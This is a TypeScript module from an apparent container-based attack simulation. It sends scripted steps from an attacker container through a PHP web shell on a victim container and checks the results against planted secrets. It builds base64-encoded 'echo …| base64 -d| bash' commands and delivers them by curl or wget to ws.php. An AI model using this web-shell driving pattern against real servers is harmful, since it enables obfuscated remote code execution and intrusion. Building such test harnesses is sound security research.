import { existsSync } from "node:fs";
import { join } from "node:path";
import { type Container, execInContainer } from "../container/container.ts";
import { limits } from "../limits.ts";
import type { PlantedSecrets } from "../victim/secrets.ts";
import type { Step, VictimKind } from "./scenario.ts";

export type StepResult = {
  step: string;
  /** When the order was given. */
  beganUs: number;
  /** Why the step had no effect; undefined when it had. */
  failure: string | undefined;
  output: string;
};

export type Target = {
  attacker: Container;
  victim: Container;
  kind: VictimKind;
  secrets: PlantedSecrets;
  signal?: AbortSignal | undefined;
};

/** Gives one order from the attacker through the victim's web shell, and looks whether it had its effect. */
export async function giveOrder(step: Step, target: Target): Promise<StepResult> {
  const beganUs = Date.now() * 1000;
  const options = { timeoutMs: limits.stepMs, signal: target.signal };
  const reply = await execInContainer(
    target.attacker,
    webRequest(target.kind, webShellCommand(step, target.kind)),
    options,
  );
  const result = { step: step.name, beganUs, output: reply.stdout };
  if (reply.status !== 0) {
    const said = reply.stderr.trim().split("\n").at(-1);
    return { ...result, failure: `the web shell did not answer (status ${reply.status}${said ? `, ${said}` : ""})` };
  }
  const status = step.plain === true ? 0 : exitStatus(reply.stdout);
  if (status === undefined) return { ...result, failure: "the script did not run to its end" };
  const wrote = (path: string) => existsSync(join(target.victim.upper, path));
  return { ...result, failure: step.missing({ status, output: reply.stdout, secrets: target.secrets, wrote }) };
}

/** The command line for the web shell: `echo BASE64| base64 -d| bash`, as the original simulation sends it. */
export function webShellCommand(step: Step, kind: VictimKind): string {
  if (step.plain === true) return step.script;
  // Standard error goes with the output, so that "Permission denied" can be read; the status is the script's last word.
  const script = `exec 2>&1\n${step.script}\nstatus=$?\necho\necho "exit status: $status"\n`;
  return `echo ${Buffer.from(script).toString("base64")}| base64 -d| ${kind === "debian" ? "bash" : "sh"}`;
}

function webRequest(kind: VictimKind, command: string): string[] {
  const page = "http://victim/ws.php";
  if (kind === "debian") return ["curl", "-Gsf", "--data-urlencode", `cmd=${command}`, page];
  return ["/bin/wget", "-q", "-O", "-", `${page}?cmd=${encodeURIComponent(command)}`];
}

function exitStatus(output: string): number | undefined {
  const status = /^exit status: (\d+)$/m.exec(output)?.[1];
  return status === undefined ? undefined : Number(status);
}
